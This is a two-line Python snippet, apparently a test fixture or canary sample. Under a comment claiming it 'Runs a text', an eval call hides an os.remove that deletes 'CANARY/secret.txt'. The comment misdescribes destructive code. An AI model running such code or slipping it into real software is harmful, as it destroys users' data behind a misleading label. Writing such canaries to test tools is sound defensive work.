# Runs a text.
eval("__import__('os').remove('CANARY/secret.txt')")
